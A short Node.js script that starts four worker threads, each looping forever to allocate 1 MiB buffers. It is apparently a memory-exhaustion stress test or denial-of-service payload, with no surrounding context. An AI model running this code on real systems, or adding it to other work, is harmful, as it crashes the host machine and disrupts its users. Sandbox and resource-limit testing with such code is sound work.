const { Worker } = require("node:worker_threads");
for (let i = 0; i < 4; i++) {
  new Worker("const x = []; for (;;) x.push(Buffer.alloc(1 << 20, 1))", { eval: true });
}
